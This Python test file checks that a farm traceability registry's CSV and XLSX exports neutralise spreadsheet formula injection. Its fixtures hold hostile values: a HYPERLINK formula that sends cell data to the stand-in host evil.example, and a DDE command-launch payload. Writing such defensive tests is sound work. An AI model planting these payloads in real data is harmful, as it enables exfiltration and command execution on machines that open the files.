"""Names a farmer stores cannot become live formulas in the files the registry publishes."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlmodel import Session

from tests.registry_fixtures import Farm
from trace.services import holdings, lots
from trace.services.events import NewEvent, record_event

PRODUCT = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
CERTIFICATE = "=1+1"
PLACE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(session: Session, farm_a: Farm, tmp_path: Any) -> int:
    """Farm A with a formula as a product name, certificate number and event place.

    Returns the id of the lot of the hostile product (harvested, then cooled there).
    """
    product = holdings.add_product(
        session,
        farm_a.actor,
        name_vi=PRODUCT,
        name_en=PRODUCT,
        category="fruit",
        unit="kg",
        gtin=None,
    )
    holdings.add_certification(
        session,
        farm_a.actor,
        scheme="vietgap",
        number=CERTIFICATE,
        issuer=PLACE,
        valid_from=date.today() - timedelta(days=30),
        valid_to=date.today() + timedelta(days=300),
        upload_folder=str(tmp_path),
        max_bytes=1024,
    )
    new = lots.NewLot(product.id, "EVIL-1", date.today() - timedelta(days=2), "500", "kg")
    lot = lots.create_lot(session, farm_a.actor, new, date.today())
    when = datetime.now().astimezone() - timedelta(hours=3)
    for kind, place in (("harvest", "Châu Thành"), ("cooling", PLACE)):
        record_event(session, farm_a.actor, lot.id, NewEvent(kind, when, place))  # type: ignore[arg-type]
        when += timedelta(hours=1)
    return lot.id  # type: ignore[return-value]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(found: list[str], *texts: str) -> None:
    for text in texts:
        assert "'" + text in found, text
        assert text not in found, text


@pytest.mark.parametrize(
    ("dataset", "texts"),
    [("products", (PRODUCT,)), ("certifications", (CERTIFICATE, PLACE))],
)
def test_open_data_csv_quotes_text_that_would_run_as_a_formula(
    client: FlaskClient, hostile: int, dataset: str, texts: tuple[str, ...]
) -> None:
    response = client.get(f"/open-data/{dataset}.csv")
    assert response.status_code == 200
    assert_neutralised(cells(response.get_data(as_text=True)), *texts)


def test_fsma204_csv_quotes_formulas_and_keeps_the_quantity_a_number(
    inspector_api: Any, hostile: int
) -> None:
    response = inspector_api.get("/api/v1/exports/fsma204.csv", query_string={"lot_id": hostile})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert_neutralised([v for row in rows for v in row.values()], PRODUCT, PLACE)
    assert rows[0]["Quantity"] == "500"


def test_fsma204_xlsx_holds_strings_not_formulas_and_numeric_quantities(
    inspector_api: Any, hostile: int
) -> None:
    response = inspector_api.get("/api/v1/exports/fsma204.xlsx", query_string={"lot_id": hostile})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["All CTEs"]
    headers = [cell.value for cell in sheet[1]]
    written = [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    every = [cell for row in written for cell in row.values()]
    assert all(cell.data_type != "f" for cell in every)
    hostile_cells = [c for c in every if c.value in (PRODUCT, PLACE)]
    assert {c.value for c in hostile_cells} == {PRODUCT, PLACE}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)
    quantity = written[0]["Quantity"]
    assert (quantity.value, quantity.data_type) == (500, "n")
